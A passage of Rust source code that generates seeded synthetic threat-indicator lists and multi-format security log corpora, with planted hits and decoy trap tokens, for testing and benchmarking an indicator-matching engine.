//! Deterministic synthetic data for benchmarks and end-to-end tests.
//!
//! [`indicators`] draws a mixed indicator set (IPv4, CIDRs, IPv6, domains, URLs, hashes,
//! e-mail addresses, free strings) and renders it as a plain list, a small fraction of it
//! in the messy forms real feeds use (defanged, upper case, `ip:port`, trailing dots and
//! spaces, inline comments). [`write_corpus`] then writes log lines in a mix of real
//! formats (iptables, Cisco ASA, FortiGate, Zeek, Suricata EVE, Apache, squid, DNS
//! servers, Sysmon, postfix) and returns the [`Truth`]:
//!
//! * in about 0.5% of the lines one token is a planted indicator, written the way logs
//!   write it (`SRC=1.2.3.4 `, `[1.2.3.4]`, `1.2.3.4:443`, a subdomain, an address inside a
//!   CIDR, an upper-case hash, another textual form of an IPv6 address, a URL that is the
//!   same after normalization);
//! * in another 0.5% one token is a trap: a token that substring search (`grep -F`)
//!   reports but that the matching contract says must not match (`11.2.3.4`,
//!   `1.2.3.4.5`, `notevil.com`, `evil.com.au`, a hash inside a longer hex run,
//!   `xevil@bad.com`, `http://evil.com/x/a.php5`, a subdomain of an exact-only domain).
//!
//! Every other token (addresses, domains, hashes, URLs, e-mail addresses) is drawn at
//! random and checked against the set: it matches no indicator under the contract. So a
//! correct engine reports exactly the lines in [`Truth::hits`], and none of
//! [`Truth::traps`].
//!
//! Everything comes from seeded `ChaCha8Rng` streams: the same [`CorpusSpec`] gives
//! byte-identical output.

pub mod flood;

use std::fmt::Write as _;
use std::hash::BuildHasher;
use std::io::{self, Write};
use std::net::{Ipv4Addr, Ipv6Addr};
use std::ops::Range;

use foldhash::fast::FixedState;
use hashbrown::HashSet;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// What to generate.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CorpusSpec {
    /// Seed of every random choice.
    pub seed: u64,
    /// Number of indicators in the set.
    pub indicators: usize,
    /// The corpus stops at the first line that reaches this many bytes.
    pub target_bytes: u64,
}

/// Lines with a planted true hit, per million lines.
pub const HIT_PPM: u32 = 5_000;
/// Lines with a planted trap, per million lines.
pub const TRAP_PPM: u32 = 5_000;

/// The type of an indicator, as the plain list spells it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Kind {
    Ipv4,
    Cidr4,
    Ipv6,
    Cidr6,
    /// Matches the domain and its subdomains.
    Domain,
    /// `domain-exact:`: matches the domain only.
    DomainExact,
    Url,
    /// `url-prefix:`: matches URLs that start with it.
    UrlPrefix,
    Md5,
    Sha1,
    Sha256,
    Email,
    /// `string:`: case-sensitive substring.
    Str,
    /// `istring:`: case-insensitive substring.
    IStr,
}

impl Kind {
    /// Every kind, in a fixed order.
    pub const ALL: [Kind; 14] = [
        Kind::Ipv4,
        Kind::Cidr4,
        Kind::Ipv6,
        Kind::Cidr6,
        Kind::Domain,
        Kind::DomainExact,
        Kind::Url,
        Kind::UrlPrefix,
        Kind::Md5,
        Kind::Sha1,
        Kind::Sha256,
        Kind::Email,
        Kind::Str,
        Kind::IStr,
    ];

    /// Short name (`ipv4`, `cidr4`, `domain-exact`, ...).
    pub fn name(self) -> &'static str {
        match self {
            Kind::Ipv4 => "ipv4",
            Kind::Cidr4 => "cidr4",
            Kind::Ipv6 => "ipv6",
            Kind::Cidr6 => "cidr6",
            Kind::Domain => "domain",
            Kind::DomainExact => "domain-exact",
            Kind::Url => "url",
            Kind::UrlPrefix => "url-prefix",
            Kind::Md5 => "md5",
            Kind::Sha1 => "sha1",
            Kind::Sha256 => "sha256",
            Kind::Email => "email",
            Kind::Str => "string",
            Kind::IStr => "istring",
        }
    }
}

/// A generated indicator set: canonical values by type, and the plain-list text.
pub struct IndicatorSet {
    pub ipv4: Vec<Ipv4Addr>,
    pub cidr4: Vec<(Ipv4Addr, u8)>,
    pub ipv6: Vec<Ipv6Addr>,
    pub cidr6: Vec<(Ipv6Addr, u8)>,
    /// Lower case, no trailing dot; subdomains match.
    pub domains: Vec<String>,
    /// Lower case; listed as `domain-exact:`.
    pub domains_exact: Vec<String>,
    /// Scheme and host in lower case, no default port.
    pub urls: Vec<String>,
    /// Listed as `url-prefix:`.
    pub url_prefixes: Vec<String>,
    /// Lower-case hex, 32, 40 or 64 digits.
    pub hashes: Vec<String>,
    pub emails: Vec<String>,
    /// Listed as `string:` (case-sensitive).
    pub strings: Vec<String>,
    /// Listed as `istring:` (case-insensitive).
    pub istrings: Vec<String>,
    plain: String,
    messy: usize,
    hash_by_len: [Vec<u32>; 3],
    idx: Index,
}

impl IndicatorSet {
    /// Number of indicators.
    pub fn len(&self) -> usize {
        Kind::ALL.iter().map(|&k| self.count(k)).sum()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Number of indicators of one kind.
    pub fn count(&self, kind: Kind) -> usize {
        match kind {
            Kind::Ipv4 => self.ipv4.len(),
            Kind::Cidr4 => self.cidr4.len(),
            Kind::Ipv6 => self.ipv6.len(),
            Kind::Cidr6 => self.cidr6.len(),
            Kind::Domain => self.domains.len(),
            Kind::DomainExact => self.domains_exact.len(),
            Kind::Url => self.urls.len(),
            Kind::UrlPrefix => self.url_prefixes.len(),
            Kind::Md5 => self.hash_by_len[0].len(),
            Kind::Sha1 => self.hash_by_len[1].len(),
            Kind::Sha256 => self.hash_by_len[2].len(),
            Kind::Email => self.emails.len(),
            Kind::Str => self.strings.len(),
            Kind::IStr => self.istrings.len(),
        }
    }

    /// The plain list (`iocs.txt`): a comment header, then one indicator per line in random
    /// order, about 2% of them in a messy feed form.
    pub fn plain_list(&self) -> &str {
        &self.plain
    }

    /// How many lines of the plain list are written in a messy form.
    pub fn messy_lines(&self) -> usize {
        self.messy
    }

    /// One canonical literal per line, for `grep -F -f`: every indicator but the CIDRs.
    pub fn literals(&self) -> String {
        let mut s = String::with_capacity(self.len() * 24);
        for ip in &self.ipv4 {
            let _ = writeln!(s, "{ip}");
        }
        for ip in &self.ipv6 {
            let _ = writeln!(s, "{ip}");
        }
        for list in [
            &self.domains,
            &self.domains_exact,
            &self.urls,
            &self.url_prefixes,
            &self.hashes,
            &self.emails,
            &self.strings,
            &self.istrings,
        ] {
            for v in list {
                s.push_str(v);
                s.push('\n');
            }
        }
        s
    }

    /// IPv4 addresses and IPv4 CIDRs, one per line, for `grepcidr -f`.
    pub fn cidr_list(&self) -> String {
        let mut s = String::with_capacity((self.ipv4.len() + self.cidr4.len()) * 16);
        for ip in &self.ipv4 {
            let _ = writeln!(s, "{ip}");
        }
        for (net, len) in &self.cidr4 {
            let _ = writeln!(s, "{net}/{len}");
        }
        s
    }
}

/// A line with a planted true hit.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TrueHit {
    /// 1-based line number.
    pub line: u64,
    pub kind: Kind,
    /// The indicator, canonical (a CIDR for an address inside one, the domain for a
    /// subdomain, the prefix for a `url-prefix:` hit).
    pub indicator: String,
    /// The token as written in the line.
    pub token: String,
    pub format: &'static str,
}

/// A line with a trap: a token that contains an indicator as a substring but must not
/// match it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Trap {
    /// 1-based line number.
    pub line: u64,
    /// The indicator the trap is built around.
    pub kind: Kind,
    pub indicator: String,
    /// The trap token as written in the line.
    pub token: String,
    pub format: &'static str,
}

/// What [`write_corpus`] wrote.
#[derive(Clone, Debug, Default)]
pub struct Truth {
    pub lines: u64,
    pub bytes: u64,
    /// In line order; one planted indicator per line.
    pub hits: Vec<TrueHit>,
    /// In line order; one trap per line, and no true hit on a trap line.
    pub traps: Vec<Trap>,
    /// Lines written per format.
    pub formats: Vec<(&'static str, u64)>,
}

impl Truth {
    /// `truth.tsv`: `line<TAB>indicator<TAB>token-as-written`, one row per planted line.
    pub fn write_hits_tsv<W: Write>(&self, mut w: W) -> io::Result<()> {
        for h in &self.hits {
            writeln!(w, "{}\t{}\t{}", h.line, h.indicator, h.token)?;
        }
        Ok(())
    }

    /// `traps.tsv`: `line<TAB>trap-token<TAB>indicator`, one row per trap line.
    pub fn write_traps_tsv<W: Write>(&self, mut w: W) -> io::Result<()> {
        for t in &self.traps {
            writeln!(w, "{}\t{}\t{}", t.line, t.token, t.indicator)?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------------------
// Lookup structures used while generating, so that background tokens never match.

const FP: FixedState = FixedState::with_seed(0x9e37_79b9_7f4a_7c15);

fn fp(s: &str) -> u64 {
    FP.hash_one(s.as_bytes())
}

fn mask4(len: u8) -> u32 {
    if len == 0 { 0 } else { u32::MAX << (32 - len) }
}

fn mask6(len: u8) -> u128 {
    if len == 0 {
        0
    } else {
        u128::MAX << (128 - len)
    }
}

fn key4(ip: u32, len: u8) -> u64 {
    ((len as u64) << 32) | (ip & mask4(len)) as u64
}

/// Proper parent domains: `a.b.c` -> `b.c`, `c`.
fn parents(d: &str) -> impl Iterator<Item = &str> {
    d.match_indices('.').map(move |(i, _)| &d[i + 1..])
}

struct Index {
    v4: HashSet<u32>,
    c4: HashSet<u64>,
    c4_lens: Vec<u8>,
    /// One bit per /24 touched by an IPv4 CIDR.
    c4_map: Vec<u64>,
    v6: HashSet<u128>,
    c6: HashSet<(u8, u128)>,
    c6_lens: Vec<u8>,
    /// Every domain indicator, exact or not.
    dom_all: HashSet<u64>,
    /// Domain indicators that match subdomains.
    dom_sub: HashSet<u64>,
    urls: HashSet<u64>,
    /// Hosts (without port) of every URL indicator.
    url_hosts: HashSet<u64>,
    hashes: HashSet<u64>,
    emails: HashSet<u64>,
    /// Domains that the templates use as they are, and every parent of them: no
    /// indicator domain may be one of these.
    reserved: HashSet<u64>,
}

impl Index {
    fn new() -> Self {
        let mut reserved = HashSet::new();
        for d in BENIGN_DOMAINS.iter().chain(CONST_DOMAINS) {
            reserved.insert(fp(d));
            for p in parents(d) {
                reserved.insert(fp(p));
            }
        }
        Index {
            v4: HashSet::new(),
            c4: HashSet::new(),
            c4_lens: Vec::new(),
            c4_map: vec![0; 1 << 18],
            v6: HashSet::new(),
            c6: HashSet::new(),
            c6_lens: Vec::new(),
            dom_all: HashSet::new(),
            dom_sub: HashSet::new(),
            urls: HashSet::new(),
            url_hosts: HashSet::new(),
            hashes: HashSet::new(),
            emails: HashSet::new(),
            reserved,
        }
    }

    fn add_c4(&mut self, net: u32, len: u8) -> bool {
        if !self.c4.insert(key4(net, len)) {
            return false;
        }
        if !self.c4_lens.contains(&len) {
            self.c4_lens.push(len);
            self.c4_lens.sort_unstable();
        }
        let first = net >> 8;
        let count = if len >= 24 { 1 } else { 1u32 << (24 - len) };
        for b in first..first + count {
            self.c4_map[(b >> 6) as usize] |= 1 << (b & 63);
        }
        true
    }

    fn add_c6(&mut self, net: u128, len: u8) -> bool {
        if !self.c6.insert((len, net & mask6(len))) {
            return false;
        }
        if !self.c6_lens.contains(&len) {
            self.c6_lens.push(len);
            self.c6_lens.sort_unstable();
        }
        true
    }

    fn in_c4(&self, ip: u32) -> bool {
        let b = ip >> 8;
        if self.c4_map[(b >> 6) as usize] & (1 << (b & 63)) == 0 {
            return false;
        }
        self.c4_lens.iter().any(|&l| self.c4.contains(&key4(ip, l)))
    }

    /// Would an IPv4 token `ip` match?
    fn v4_hit(&self, ip: u32) -> bool {
        self.v4.contains(&ip) || self.in_c4(ip)
    }

    /// Would an IPv6 token `ip` match?
    fn v6_hit(&self, ip: u128) -> bool {
        self.v6.contains(&ip)
            || self
                .c6_lens
                .iter()
                .any(|&l| self.c6.contains(&(l, ip & mask6(l))))
    }

    /// Would a domain token `d` (lower case) match?
    fn domain_hit(&self, d: &str) -> bool {
        self.dom_all.contains(&fp(d)) || parents(d).any(|p| self.dom_sub.contains(&fp(p)))
    }

    /// Is `d` or any parent of it a domain indicator (exact or not)? Stricter than
    /// [`Index::domain_hit`]: used for background tokens.
    fn domain_near(&self, d: &str) -> bool {
        self.dom_all.contains(&fp(d)) || parents(d).any(|p| self.dom_all.contains(&fp(p)))
    }
}

// ---------------------------------------------------------------------------------------
// Word material.

const CONS: &[u8] = b"bcdfghjklmnprstvwz";
const VOWS: &[u8] = b"aeiou";

/// Top-level domains of indicators, with weights.
const IOC_TLDS: &[(&str, u32)] = &[
    ("com", 34),
    ("net", 10),
    ("org", 5),
    ("ru", 6),
    ("info", 5),
    ("xyz", 6),
    ("top", 6),
    ("io", 3),
    ("cn", 4),
    ("biz", 3),
    ("online", 3),
    ("site", 3),
    ("club", 2),
    ("shop", 2),
    ("de", 2),
    ("br", 1),
    ("in", 1),
    ("co.uk", 1),
    ("com.br", 1),
    ("su", 1),
];

const BG_TLDS: &[(&str, u32)] = &[
    ("com", 40),
    ("net", 12),
    ("org", 8),
    ("io", 5),
    ("de", 5),
    ("co.uk", 3),
    ("fr", 3),
    ("nl", 3),
    ("cloud", 2),
    ("app", 2),
    ("ru", 2),
    ("info", 2),
];

const SUB_LABELS: &[&str] = &[
    "www", "mail", "login", "secure", "cdn", "update", "api", "portal", "account", "verify", "m",
    "app", "static", "dl", "files", "auth", "my", "panel", "admin", "cloud",
];

/// Well-known domains that background lines use as they are.
const BENIGN_DOMAINS: &[&str] = &[
    "www.google.com",
    "google.com",
    "www.microsoft.com",
    "login.microsoftonline.com",
    "update.microsoft.com",
    "ctldl.windowsupdate.com",
    "www.bing.com",
    "outlook.office365.com",
    "graph.microsoft.com",
    "www.youtube.com",
    "i.ytimg.com",
    "www.facebook.com",
    "static.xx.fbcdn.net",
    "www.amazon.com",
    "s3.amazonaws.com",
    "d3c3cq33003psk.cloudfront.net",
    "github.com",
    "api.github.com",
    "raw.githubusercontent.com",
    "en.wikipedia.org",
    "cdn.jsdelivr.net",
    "fonts.googleapis.com",
    "fonts.gstatic.com",
    "www.gstatic.com",
    "ocsp.digicert.com",
    "crl3.digicert.com",
    "ocsp.pki.goog",
    "time.windows.com",
    "settings-win.data.microsoft.com",
    "www.apple.com",
    "gateway.icloud.com",
    "api.twitter.com",
    "slack.com",
    "zoom.us",
    "www.linkedin.com",
    "ajax.googleapis.com",
    "www.googletagmanager.com",
    "connect.facebook.net",
    "pool.ntp.org",
    "security.ubuntu.com",
    "deb.debian.org",
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "static.crates.io",
    "dns.msftncsi.com",
    "www.msftconnecttest.com",
    "teams.microsoft.com",
    "www.office.com",
    "api.stripe.com",
    "www.dropbox.com",
    "docs.google.com",
    "mail.google.com",
    "accounts.google.com",
    "clients4.google.com",
    "gmail-smtp-in.l.google.com",
    "mx1.hotmail.com",
    "gmail.com",
    "outlook.com",
    "yahoo.com",
];

/// Domains written literally by the templates (never an indicator or a parent of one).
const CONST_DOMAINS: &[&str] = &[
    "corp.local",
    "www.northwind-traders.com",
    "northwind-traders.com",
    "mx1.northwind-traders.com",
    "letsencrypt.org",
];

const FIRST_NAMES: &[&str] = &[
    "john", "mary", "ahmed", "li", "olga", "pierre", "sofia", "raj", "anna", "kenji", "lucas",
    "emma", "noah", "mia", "omar", "ines", "jan", "eva", "paul", "sara",
];
const LAST_NAMES: &[&str] = &[
    "smith", "garcia", "muller", "rossi", "kim", "nguyen", "khan", "silva", "novak", "dubois",
    "jensen", "tanaka", "cohen", "ivanova", "brown", "lopez", "weber", "moreau", "berg", "ali",
];
const PATH_WORDS: &[&str] = &[
    "images",
    "static",
    "js",
    "css",
    "assets",
    "api",
    "v1",
    "v2",
    "wp-content",
    "uploads",
    "plugins",
    "themes",
    "download",
    "files",
    "docs",
    "admin",
    "login",
    "account",
    "cart",
    "search",
    "news",
    "blog",
    "media",
    "public",
    "update",
    "cdn",
    "includes",
    "modules",
    "gate",
    "panel",
];
const FILE_EXTS: &[&str] = &[
    "php", "html", "js", "css", "png", "jpg", "gif", "exe", "zip", "bin", "doc", "dll", "ps1",
    "json", "aspx", "jsp",
];
const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.64 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Microsoft-CryptoAPI/10.0",
    "Wget/1.21.4",
    "Go-http-client/1.1",
];
const FW_HOSTS: &[&str] = &["fw01", "edge-fw-02", "gw-dc1", "fw-branch7"];
const ASA_HOSTS: &[&str] = &["asa-edge01", "ASA5516-DC", "fw-asa-02"];
const WIN_HOSTS: &[&str] = &[
    "WKS-0042.corp.local",
    "WKS-0117.corp.local",
    "LAPTOP-7QK2.corp.local",
    "SRV-FILE01.corp.local",
    "SRV-SQL02.corp.local",
    "DC01.corp.local",
];
const WIN_USERS: &[&str] = &[
    r#"CORP\\jdoe"#,
    r#"CORP\\msmith"#,
    r#"CORP\\svc_backup"#,
    r#"NT AUTHORITY\\SYSTEM"#,
    r#"CORP\\akhan"#,
];
const ET_SIGS: &[(&str, &str)] = &[
    ("ET DROP Dshield Block Listed Source group 1", "Misc Attack"),
    (
        "ET CINS Active Threat Intelligence Poor Reputation IP group 42",
        "Misc Attack",
    ),
    (
        "ET SCAN Potential SSH Scan OUTBOUND",
        "Attempted Information Leak",
    ),
    (
        "ET POLICY curl User-Agent Outbound",
        "Attempted Information Leak",
    ),
    (
        "ET MALWARE Possible Windows executable sent when remote host claims to send html content",
        "A Network Trojan was detected",
    ),
    (
        "ET COMPROMISED Known Compromised or Hostile Host Traffic group 17",
        "Misc Attack",
    ),
    (
        "ET SCAN Suspicious inbound to mySQL port 3306",
        "Potentially Bad Traffic",
    ),
];
const COUNTRIES: &[&str] = &[
    "United States",
    "Germany",
    "Netherlands",
    "Russian Federation",
    "China",
    "France",
    "Brazil",
    "Singapore",
    "United Kingdom",
];

/// Popular public IPv4 ranges that background lines favour.
const POPULAR4: &[(u32, u8)] = &[
    (0x0808_0800, 24), // 8.8.8.0/24
    (0x0101_0100, 24), // 1.1.1.0/24
    (0x8efa_0000, 15), // 142.250.0.0/15
    (0x0d6b_0000, 16), // 13.107.0.0/16
    (0x3460_0000, 12), // 52.96.0.0/12
    (0x6810_0000, 13), // 104.16.0.0/13
    (0x9765_0000, 16), // 151.101.0.0/16
    (0x11fd_0000, 16), // 17.253.0.0/16
    (0x14be_8000, 18), // 20.190.128.0/18
    (0x1700_0000, 12), // 23.0.0.0/12
    (0xb92c_0000, 16), // 185.44.0.0/16
];

/// Reserved and private IPv4 ranges: never used for indicators.
const RESERVED4: &[(u32, u8)] = &[
    (0x0000_0000, 8),
    (0x0a00_0000, 8),
    (0x6440_0000, 10),
    (0x7f00_0000, 8),
    (0xa9fe_0000, 16),
    (0xac10_0000, 12),
    (0xc000_0000, 24),
    (0xc000_0200, 24),
    (0xc0a8_0000, 16),
    (0xc612_0000, 15),
    (0xc633_6400, 24),
    (0xcb00_7100, 24),
    (0xe000_0000, 3),
];

fn overlaps_reserved(net: u32, len: u8) -> bool {
    let (lo, hi) = (net, net | !mask4(len));
    RESERVED4.iter().any(|&(rn, rl)| {
        let (rlo, rhi) = (rn, rn | !mask4(rl));
        lo <= rhi && rlo <= hi
    })
}

fn weighted<'a, R: Rng>(rng: &mut R, items: &[(&'a str, u32)]) -> &'a str {
    let total: u32 = items.iter().map(|x| x.1).sum();
    let mut r = rng.gen_range(0..total);
    for &(s, w) in items {
        if r < w {
            return s;
        }
        r -= w;
    }
    items[0].0
}

fn pick<'a, R: Rng, T: ?Sized>(rng: &mut R, items: &[&'a T]) -> &'a T {
    items[rng.gen_range(0..items.len())]
}

fn push_word<R: Rng>(rng: &mut R, out: &mut String, syllables: usize) {
    for _ in 0..syllables {
        out.push(CONS[rng.gen_range(0..CONS.len())] as char);
        out.push(VOWS[rng.gen_range(0..VOWS.len())] as char);
        if rng.gen_ratio(1, 4) {
            out.push(CONS[rng.gen_range(0..CONS.len())] as char);
        }
    }
}

fn push_words<R: Rng>(rng: &mut R, out: &mut String, syllables: Range<usize>) {
    let n = rng.gen_range(syllables);
    push_word(rng, out, n);
}

fn push_alnum<R: Rng>(rng: &mut R, out: &mut String, n: usize) {
    const A: &[u8] = b"ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789";
    for _ in 0..n {
        out.push(A[rng.gen_range(0..A.len())] as char);
    }
}

fn push_hex<R: Rng>(rng: &mut R, out: &mut String, n: usize) {
    const H: &[u8] = b"0123456789abcdef";
    let mut bits = 0u64;
    for i in 0..n {
        if i % 16 == 0 {
            bits = rng.r#gen();
        }
        out.push(H[(bits & 15) as usize] as char);
        bits >>= 4;
    }
}

/// A domain name: optional subdomain labels, a base word, a TLD.
fn gen_domain<R: Rng>(rng: &mut R, out: &mut String, tlds: &[(&str, u32)], sub_pct: u32) {
    out.clear();
    if rng.gen_range(0..100) < sub_pct {
        if rng.gen_ratio(2, 3) {
            out.push_str(pick(rng, SUB_LABELS));
        } else {
            push_word(rng, out, 2);
        }
        out.push('.');
    }
    match rng.gen_range(0..10) {
        0 => {
            // DGA-looking
            let n = rng.gen_range(10..18);
            for _ in 0..n {
                out.push((b'a' + rng.gen_range(0..26)) as char);
            }
        }
        1 | 2 => {
            push_words(rng, out, 1..3);
            out.push('-');
            push_words(rng, out, 2..4);
        }
        _ => {
            push_words(rng, out, 2..5);
            if rng.gen_ratio(1, 10) {
                let _ = write!(out, "{}", rng.gen_range(1..100));
            }
        }
    }
    out.push('.');
    out.push_str(weighted(rng, tlds));
}

fn ioc_v6<R: Rng>(rng: &mut R) -> u128 {
    loop {
        let g0: u16 = rng.gen_range(0x2001..=0x2c0f);
        let g1: u16 = rng.r#gen();
        if g0 == 0x2002 || (g0 == 0x2001 && g1 < 0x1000) {
            continue;
        }
        let hi = ((g0 as u128) << 112) | ((g1 as u128) << 96);
        return match rng.gen_range(0..3) {
            0 => hi | ((rng.r#gen::<u16>() as u128) << 80) | rng.gen_range(1..0x100u128),
            1 => hi | ((rng.r#gen::<u32>() as u128) << 64) | rng.gen_range(1..0x1000u128),
            _ => hi | (rng.r#gen::<u128>() & ((1u128 << 96) - 1)),
        };
    }
}

fn cidr4_len<R: Rng>(rng: &mut R) -> u8 {
    match rng.gen_range(0..100) {
        0..=1 => rng.gen_range(12..16),
        2..=41 => 24,
        42..=76 => rng.gen_range(16..24),
        _ => rng.gen_range(25..29),
    }
}

/// A URL path (with a leading `/`), maybe a query.
fn gen_path<R: Rng>(rng: &mut R, out: &mut String, dir_only: bool) {
    let segs = rng.gen_range(0..3);
    for _ in 0..segs {
        out.push('/');
        if rng.gen_ratio(1, 2) {
            out.push_str(pick(rng, PATH_WORDS));
        } else {
            push_words(rng, out, 1..4);
        }
    }
    out.push('/');
    if dir_only {
        return;
    }
    if rng.gen_ratio(4, 5) {
        push_words(rng, out, 1..4);
        if rng.gen_ratio(1, 5) {
            let _ = write!(out, "{}", rng.gen_range(1..1000));
        }
        out.push('.');
        out.push_str(pick(rng, FILE_EXTS));
    }
    if rng.gen_ratio(3, 20) {
        out.push('?');
        push_word(rng, out, 1);
        out.push('=');
        let _ = write!(out, "{}", rng.gen_range(1..100_000));
    }
}

fn ipv6_text(ip: u128) -> String {
    Ipv6Addr::from(ip).to_string()
}

/// Another textual form of the same IPv6 address.
fn ipv6_variant<R: Rng>(rng: &mut R, ip: u128) -> String {
    let segs = Ipv6Addr::from(ip).segments();
    let canonical = ipv6_text(ip);
    let mut s = String::with_capacity(40);
    match rng.gen_range(0..4) {
        0 => {
            // fully expanded
            for (i, g) in segs.iter().enumerate() {
                if i > 0 {
                    s.push(':');
                }
                let _ = write!(s, "{g:04x}");
            }
        }
        1 if canonical.bytes().any(|b| b.is_ascii_alphabetic()) => {
            s = canonical.to_ascii_uppercase();
        }
        _ => {
            // compress only part of the longest zero run (or none), pad some groups
            let (mut best, mut best_len, mut cur, mut cur_len) = (0, 0, 0, 0);
            for (i, &g) in segs.iter().enumerate() {
                if g == 0 {
                    if cur_len == 0 {
                        cur = i;
                    }
                    cur_len += 1;
                    if cur_len > best_len {
                        best = cur;
                        best_len = cur_len;
                    }
                } else {
                    cur_len = 0;
                }
            }
            let upper = rng.gen_ratio(1, 3);
            let group = |s: &mut String, g: u16, pad: bool| {
                let _ = match (pad, upper) {
                    (true, true) => write!(s, "{g:04X}"),
                    (true, false) => write!(s, "{g:04x}"),
                    (false, true) => write!(s, "{g:X}"),
                    (false, false) => write!(s, "{g:x}"),
                };
            };
            if best_len >= 2 {
                // keep the first zero group written, compress the rest of the run
                let (zs, ze) = (best + 1, best + best_len);
                for (i, &g) in segs.iter().enumerate().take(zs) {
                    if i > 0 {
                        s.push(':');
                    }
                    group(&mut s, g, rng.gen_ratio(1, 2));
                }
                s.push_str("::");
                for (i, &g) in segs.iter().enumerate().skip(ze) {
                    if i > ze {
                        s.push(':');
                    }
                    group(&mut s, g, rng.gen_ratio(1, 2));
                }
            } else {
                for (i, &g) in segs.iter().enumerate() {
                    if i > 0 {
                        s.push(':');
                    }
                    group(&mut s, g, rng.gen_ratio(1, 2));
                }
            }
        }
    }
    debug_assert_eq!(s.parse::<Ipv6Addr>().map(u128::from), Ok(ip), "{s}");
    s
}

/// A strictly written dotted quad (no leading zeros), as a number.
fn strict_v4(s: &str) -> Option<u32> {
    let mut parts = 0;
    let mut ip = 0u32;
    for p in s.split('.') {
        if p.is_empty() || p.len() > 3 || (p.len() > 1 && p.starts_with('0')) {
            return None;
        }
        let v: u32 = p.parse().ok()?;
        if v > 255 {
            return None;
        }
        ip = (ip << 8) | v;
        parts += 1;
    }
    (parts == 4).then_some(ip)
}

/// Every maximal dotted-decimal run of `s` that is an IPv4 address.
fn dotted_quads(s: &str) -> impl Iterator<Item = u32> + '_ {
    s.split(|c: char| !(c.is_ascii_digit() || c == '.'))
        .filter_map(strict_v4)
}

// ---------------------------------------------------------------------------------------
// The indicator set.

/// Draws the indicator set of `spec` (its size and seed; `target_bytes` is not used).
pub fn indicators(spec: &CorpusSpec) -> IndicatorSet {
    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
    rng.set_stream(1);
    let n = spec.indicators;
    let min1 = |x: usize| if n >= 200 { x.max(1) } else { x };
    let n_str = if n >= 200 {
        (4 + n / 60_000).min(20)
    } else {
        0
    };
    let n_c6 = min1(n / 200);
    let n_c4 = min1(n / 20 - n / 200);
    let n_v6 = min1(n * 3 / 100);
    let n_email = min1(n / 200);
    let n_dom_exact = min1(n / 100);
    let n_dom = (n * 22 / 100).saturating_sub(n_email + n_dom_exact);
    let n_url_prefix = min1(n / 200);
    let n_url = (n / 10).saturating_sub(n_url_prefix);
    let n_hash = n / 10;
    let others =
        n_str + n_c6 + n_c4 + n_v6 + n_email + n_dom_exact + n_dom + n_url_prefix + n_url + n_hash;
    let n_v4 = n.saturating_sub(others);

    let mut idx = Index::new();
    let mut set = IndicatorSet {
        ipv4: Vec::with_capacity(n_v4),
        cidr4: Vec::with_capacity(n_c4),
        ipv6: Vec::with_capacity(n_v6),
        cidr6: Vec::with_capacity(n_c6),
        domains: Vec::with_capacity(n_dom),
        domains_exact: Vec::with_capacity(n_dom_exact),
        urls: Vec::with_capacity(n_url),
        url_prefixes: Vec::with_capacity(n_url_prefix),
        hashes: Vec::with_capacity(n_hash),
        emails: Vec::with_capacity(n_email),
        strings: Vec::new(),
        istrings: Vec::new(),
        plain: String::new(),
        messy: 0,
        hash_by_len: Default::default(),
        idx: Index::new(),
    };

    while set.ipv4.len() < n_v4 {
        let ip: u32 = rng.r#gen();
        if !overlaps_reserved(ip, 32) && idx.v4.insert(ip) {
            set.ipv4.push(ip.into());
        }
    }
    while set.cidr4.len() < n_c4 {
        let len = cidr4_len(&mut rng);
        let net = rng.r#gen::<u32>() & mask4(len);
        if !overlaps_reserved(net, len) && idx.add_c4(net, len) {
            set.cidr4.push((net.into(), len));
        }
    }
    while set.ipv6.len() < n_v6 {
        let ip = ioc_v6(&mut rng);
        if idx.v6.insert(ip) {
            set.ipv6.push(ip.into());
        }
    }
    while set.cidr6.len() < n_c6 {
        let len = [32u8, 36, 40, 44, 48, 48, 56, 64][rng.gen_range(0..8)];
        let net = ioc_v6(&mut rng) & mask6(len);
        if idx.add_c6(net, len) {
            set.cidr6.push((net.into(), len));
        }
    }

    let mut tmp = String::new();
    while set.domains.len() + set.domains_exact.len() < n_dom + n_dom_exact {
        gen_domain(&mut rng, &mut tmp, IOC_TLDS, 22);
        let f = fp(&tmp);
        if idx.reserved.contains(&f) || !idx.dom_all.insert(f) {
            continue;
        }
        if set.domains_exact.len() < n_dom_exact {
            set.domains_exact.push(tmp.clone());
        } else {
            idx.dom_sub.insert(f);
            set.domains.push(tmp.clone());
        }
    }

    // A fresh domain: not a domain indicator, not under one, not a template's domain.
    let fresh_domain = |rng: &mut ChaCha8Rng, idx: &Index, out: &mut String, sub: u32| loop {
        gen_domain(rng, out, IOC_TLDS, sub);
        if !idx.domain_near(out)
            && !idx.reserved.contains(&fp(out))
            && !idx.url_hosts.contains(&fp(out))
        {
            return;
        }
    };

    while set.emails.len() < n_email {
        let mut e = String::new();
        match rng.gen_range(0..3) {
